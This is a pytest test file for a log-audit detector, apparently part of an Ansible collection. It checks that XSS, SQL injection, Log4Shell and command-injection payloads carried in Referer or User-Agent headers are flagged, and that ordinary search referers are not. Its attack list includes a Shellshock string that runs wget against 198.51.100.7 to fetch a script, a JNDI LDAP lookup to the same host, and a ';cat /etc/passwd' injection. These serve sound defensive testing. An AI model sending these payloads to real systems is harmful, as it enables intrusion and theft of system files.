
"""Payloads carried only in the Referer or the User-Agent become incidents of the client, with the
header named in the evidence; ordinary referers (search engines, the site's own pages, queries of
words) raise nothing and are not even classified."""

import pytest

from ansible_collections.sitekeeper.website.plugins.module_utils.audit import detections
from ansible_collections.sitekeeper.website.plugins.module_utils.audit.detections import Classifier, combine
from ansible_collections.sitekeeper.website.plugins.module_utils.audit.parser import audit

UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36"


def line(ip, path="/berita/1", referer="-", agent=UA, status=200):
    return '%s - - [27/Nov/2026:10:00:00 +0700] "GET %s HTTP/1.1" %d 512 "%s" "%s"\n' % (
        ip, path, status, referer, agent)


def run(tmp_path, text, **kw):
    path = tmp_path / "access.log"
    path.write_text(text, encoding="utf-8")
    kw.setdefault("second_opinion", False)
    return {i["client"]: i for i in audit([str(path)], **kw)["incidents"]}


ATTACKS = [
    # (referer or agent payload, detection)
    ("https://www.pn-contoh.go.id/'><svg/onload=alert(document.domain)>", "xss"),
    ("http://example.test/<script>alert(1)</script>", "xss"),
    ("1' AND SLEEP(5)-- -", "sqli"),
    ("x' UNION SELECT username,password FROM users-- -", "sqli"),
    ("${jndi:ldap://198.51.100.7:1389/a}", "java_injection"),
    ("() { :; }; /bin/bash -c 'wget http://198.51.100.7/x.sh'", "command_injection"),
    ("https://example.test/;cat /etc/passwd", "command_injection"),
]

BENIGN_REFERERS = [
    "https://www.google.com/search?q=select+the+best+court",
    "https://www.google.com/search?q=%22jadwal+sidang%22+pn+jakarta",
    "https://www.bing.com/search?q=o%27reilly+or+union+of+courts",
    "https://www.google.com/search?q=don't+select+from+the+list",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fwww.pn-contoh.go.id%2Fberita%2F1&h=AT0x-9",
    "https://www.pn-contoh.go.id/berita/1?page=2&sort=-date",
    "https://www.google.com/url?sa=t&rct=j&q=&esrc=s&source=web&cd=&url=https%3A%2F%2Fsipp.pn.go.id%2F",
    "https://www.google.com/",
    "android-app://com.google.android.gm/",
]


@pytest.mark.parametrize("header", ["referer", "agent"])
def test_header_only_payloads_are_incidents_naming_the_header(tmp_path, header):
    text = "".join(line("198.51.100.%d" % i, **{header: p}) for i, (p, _d) in enumerate(ATTACKS, 1))
    found = run(tmp_path, text)
    for i, (payload, ident) in enumerate(ATTACKS, 1):
        inc = found["198.51.100.%d" % i]
        assert ident in inc["detections"], payload
        parts = {r["part"] for r in inc["rules"]}
        # A referer payload is the only evidence; an attack-tool agent may add its own rule on the agent.
        assert (parts == {"referer"}) if header == "referer" else ("agent" in parts), payload


def test_attack_tool_agent_is_named_in_the_evidence(tmp_path):
    inc = run(tmp_path, line("198.51.100.30", agent="sqlmap/1.7.2#stable (https://sqlmap.org)"))["198.51.100.30"]
    assert inc["detections"] == ["scanner_agent"]
    assert inc["rules"][0]["rule"] == "scanner_agent" and inc["rules"][0]["part"] == "agent"


def test_request_and_referer_evidence_are_kept_together(tmp_path):
    text = line("198.51.100.40", "/cari?q=%27%20or%201%3D1--%20-", referer="<script>alert(1)</script>")
    inc = run(tmp_path, text)["198.51.100.40"]
    assert set(inc["detections"]) == {"sqli", "xss"}
    parts = {r["part"] for r in inc["rules"]}
    assert "referer" in parts and "arg:q" in parts


def test_nginx_escaped_quotes_in_a_referer_are_read(tmp_path):
    # nginx writes a '"' of a header as \x22 in the log
    inc = run(tmp_path, line("198.51.100.41", referer=r"\x22><img src=x onerror=alert(1)>"))
    assert "xss" in inc["198.51.100.41"]["detections"]


def test_ordinary_referers_raise_nothing(tmp_path):
    text = "".join(line("192.0.2.%d" % i, referer=r) for i, r in enumerate(BENIGN_REFERERS, 1))
    assert run(tmp_path, text) == {}


def test_ordinary_referers_are_not_classified_at_all(monkeypatch):
    calls = []
    real = detections.waf.inspect

    def counting(*args, **kw):
        calls.append(kw.get("referer"))
        return real(*args, **kw)

    monkeypatch.setattr(detections.waf, "inspect", counting)
    c = Classifier()
    plain = [b"https://www.google.com/search?q=select+the+best+court", b"https://www.google.com/",
             b"https://www.pn-contoh.go.id/berita/1?page=2&sort=-date", b"android-app://com.google.android.gm/"]
    tools, refs = c.header_hits([], plain + [b"-", b""])
    assert (tools, refs, calls) == ({}, {}, [])
    # a referer that may carry a payload is classified once, however often it is seen
    for _ in range(3):
        c.header_hits([], [b"x' or '1'='1"])
    assert calls == [b"x' or '1'='1"]


def test_an_allowlisted_client_raises_nothing_for_its_referer(tmp_path):
    text = line("192.0.2.9", referer="<script>alert(1)</script>")
    assert run(tmp_path, text, allowlist=["192.0.2.0/24"]) == {}
    assert "192.0.2.9" in run(tmp_path, text)


def test_combine_keeps_each_parts_matches():
    c = Classifier()
    request = c.inspect(b"GET /?id=1%27%20union%20select%201,2--%20- HTTP/1.1")
    referer = c.referer_verdict(b"<script>alert(1)</script>")
    both = combine(request, None, referer)
    assert both.ids == ("sqli", "xss")
    assert {m[2] for m in both.matches} >= {"arg:id", "referer"}
    assert both.score == request.score + referer.score and both.peak == max(request.peak, referer.peak)
    assert combine(None, referer) is referer and combine(None).ids == ()


def test_second_opinion_reads_each_rows_headers_and_is_bounded(tmp_path, monkeypatch):
    from ansible_collections.sitekeeper.website.plugins.module_utils.audit import incidents

    asked = []

    def opinion(items):
        asked.append(list(items))
        # the peer alarms only when the referer carries the payload: its verdict follows the row's headers
        return {i: ["xss", 941100] for i in items if b"<script" in i[2]}, {"requests": len(items)}

    near = "/foo?a=substr%28"  # a near miss: some evidence, below the threshold
    text = line("192.0.2.1", near, referer="<script>alert(1)</script>")
    text += line("192.0.2.2", near, referer="https://www.google.com/")
    found = run(tmp_path, text, second_opinion=opinion)
    assert sorted(i[2] for i in asked[0]) == [b"<script>alert(1)</script>", b"https://www.google.com/"]
    assert "192.0.2.2" not in found and found["192.0.2.1"]["second_opinion"] == [941100]
    # many header combinations of one request: only OPINION_COMBOS of them are sent
    monkeypatch.setattr(incidents, "OPINION_COMBOS", 2)
    asked.clear()
    text = "".join(line("192.0.2.%d" % i, near, agent="agent %d" % i) for i in range(10, 20))
    run(tmp_path, text, second_opinion=opinion)
    assert len(asked[0]) == 2


def test_sql_in_a_referer_urls_parameter_is_read_per_value():
    c = Classifier()
    # the quote breaks out of the parameter's value (the whole URL read as one string would hide it)
    hit = c.referer_verdict(b"https://www.example.test/search?q=x%27+union+select+password+from+users--+-")
    assert hit.ids == ("sqli",) and {m[2] for m in hit.matches} == {"referer"}
    # words of SQL and an apostrophe in an ordinary search are not a break-out
    for plain in (b"https://www.bing.com/search?q=o%27reilly+or+union+of+courts",
                  b"https://www.google.com/search?q=don't+select+from+the+list",
                  b"https://www.example.test/cari?a=it%27s+1+or+2&page=3"):
        assert c.referer_verdict(plain).ids == (), plain
